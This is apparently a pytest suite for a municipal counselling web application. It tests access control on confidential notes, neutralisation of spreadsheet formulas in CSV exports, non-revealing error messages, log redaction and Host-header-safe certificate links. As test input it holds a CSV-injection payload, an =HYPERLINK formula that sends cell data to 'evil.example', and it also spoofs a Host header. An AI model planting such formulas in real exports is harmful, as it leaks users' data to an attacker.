"""What answers, exports, errors and links give away: issue 12, points 2, 4, 6, 12 and 14."""

from __future__ import annotations

import csv
import io
import logging
import uuid
from datetime import date

import pytest
from pypdf import PdfReader
from sqlalchemy import text
from sqlalchemy.exc import IntegrityError

from kokoma.access.permissions import Role
from kokoma.core.spreadsheet import inert
from kokoma.municipalities.models import Municipality
from tests.consultations.helpers import make_consultation
from tests.statistics.builders import ReferralRow, add_referrals
from tests.support import client_headers, insert_case
from tests.trainings.helpers import make_series

API = "/api/v1"
NOTES = "Herr M. deutete Drohungen gegen den Ortsteilrat an."
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Klick")'


async def test_confidential_notes_only_for_those_handling_the_case(client, tenants, db) -> None:
    t = await tenants.make()
    assigned = t.user("conflict_manager")
    outsider = await tenants.add_user(t, Role.CONFLICT_MANAGER)
    case = await insert_case(db, t, assignees=(assigned.id,))
    made = await make_consultation(client, t, case_id=str(case.id), confidential_notes=NOTES)
    _, api_client = await client_headers(client, t, ["consultations:read"])
    url = f"{API}/consultations/{made['id']}"

    def notes(response):  # type: ignore[no-untyped-def]
        assert response.status_code == 200, response.text
        return response.json()["confidential_notes"]

    assert notes(await client.get(url, headers=t.headers("conflict_manager"))) == NOTES
    assert notes(await client.get(url, headers=t.headers("coordinator"))) == NOTES
    assert notes(await client.get(url, headers=outsider.headers)) is None
    assert notes(await client.get(url, headers=api_client)) is None
    # Changing something else does not hand them out either, and they cannot be overwritten.
    current = await client.get(url, headers=outsider.headers)
    etag = {"If-Match": current.headers["etag"]}
    changed = await client.patch(url, json={"head_count": 3}, headers={**outsider.headers, **etag})
    assert notes(changed) is None
    overwrite = await client.patch(
        url,
        json={"confidential_notes": "weg"},
        headers={**outsider.headers, "If-Match": changed.headers["etag"]},
    )
    assert overwrite.status_code == 403
    async with db() as session:
        readers = set(
            await session.scalars(
                text(
                    "SELECT actor_id FROM audit_log WHERE action = 'consultation.read_confidential' "
                    "AND resource_id = :id"
                ).bindparams(id=made["id"])
            )
        )
    assert {str(r).replace("-", "") for r in readers} == {
        str(assigned.id).replace("-", ""),
        str(t.user("coordinator").id).replace("-", ""),
    }


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        (FORMULA, "'" + FORMULA),
        ("+49 3695 1234", "'+49 3695 1234"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tTab", "'\tTab"),
        ("\rCR", "'\rCR"),
        ("-3", "-3"),
        ("-2,5", "-2,5"),
        ("Mobile Beratung", "Mobile Beratung"),
    ],
)
def test_cells_that_start_a_formula_are_made_inert(cell: str, expected: str) -> None:
    assert inert(cell) == expected


async def test_statistics_csv_neutralises_formulas_in_referral_targets(
    client, tenants, db
) -> None:
    t = await tenants.make()
    await add_referrals(
        db, t, ReferralRow(date(2025, 3, 3), FORMULA), ReferralRow(date(2025, 3, 4), "@Beratung")
    )
    response = await client.get(
        f"{API}/statistics/referrals",
        params={"from": "2025-01-01", "to": "2025-12-31"},
        headers={**t.headers("coordinator"), "Accept": "text/csv"},
    )
    assert response.status_code == 200
    cells = [
        c
        for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";")
        for c in row
    ]
    assert "'" + FORMULA in cells and "'@Beratung" in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]


async def test_an_address_in_use_elsewhere_is_refused_without_saying_where(
    client, tenants
) -> None:
    here, there = await tenants.make(), await tenants.make()
    body = {
        "full_name": "Anna Schulze",
        "role": "conflict_manager",
        "password": "Sichere-Passphrase-42",
    }
    own = await client.post(
        f"{API}/users",
        json={**body, "email": here.user("trainer").email},
        headers=here.headers("coordinator"),
    )
    elsewhere = await client.post(
        f"{API}/users",
        json={**body, "email": there.user("trainer").email},
        headers=here.headers("coordinator"),
    )
    assert own.status_code == elsewhere.status_code == 409
    strip = lambda r: {k: v for k, v in r.json().items() if k != "request_id"}  # noqa: E731
    assert strip(own) == strip(elsewhere)
    for revealing in (there.slug, there.municipality.name, str(there.id), "exists"):
        assert revealing not in elsewhere.text


async def test_database_errors_carry_no_bound_values(app, caplog) -> None:
    marker = f"Geheim {uuid.uuid4().hex}"
    slug = f"s{uuid.uuid4().hex[:10]}"
    async with app.state.db.sessionmaker() as session:
        session.add(Municipality(name=marker, slug=slug))
        await session.commit()
        session.add(Municipality(name=marker, slug=slug))
        with caplog.at_level(logging.INFO), pytest.raises(IntegrityError) as raised:
            await session.commit()
        await session.rollback()
    assert marker not in str(raised.value)
    assert marker not in caplog.text


async def test_the_access_log_keeps_parameter_names_not_search_terms(
    client, tenants, caplog
) -> None:
    t = await tenants.make()
    with caplog.at_level(logging.INFO, logger="kokoma.access"):
        await client.get(
            f"{API}/contacts",
            params={"q": "Müller-Lüdenscheidt"},
            headers=t.headers("coordinator"),
        )
    lines = [r.getMessage() for r in caplog.records if r.name == "kokoma.access"]
    assert any("/api/v1/contacts?q" in line for line in lines)
    assert "Lüdenscheidt" not in caplog.text and "L%C3%BCdenscheidt" not in caplog.text


async def test_certificate_links_come_from_the_public_url_not_the_host_header(
    client, tenants
) -> None:
    t = await tenants.make()
    series = await make_series(client, t, days_per_module=(1,), participants=("Anna Schulze",))
    participant = series.participants[0]
    for day in series.sessions[0]:
        register = await client.put(
            f"{series.url}/sessions/{day['id']}/attendance",
            json={"entries": [{"participant_id": participant["id"], "status": "present"}]},
            headers={**t.headers("trainer"), "If-Match": f'"{day["version"]}"'},
        )
        assert register.status_code == 200, register.text
    issued = await client.post(
        f"{series.url}/certificates",
        json={"issued_on": "2026-03-20"},
        headers=t.headers("trainer"),
    )
    assert issued.status_code == 201, issued.text
    certificate = issued.json()["items"][0]
    pdf = await client.get(
        f"{series.url}/certificates/{certificate['id']}/pdf",
        headers={**t.headers("trainer"), "Host": "evil.example"},
    )
    content = "".join(p.extract_text() for p in PdfReader(io.BytesIO(pdf.content)).pages)
    assert f"https://kokoma.test/zertifikat/pruefen/{certificate['verification_code']}" in content
    assert "evil.example" not in content
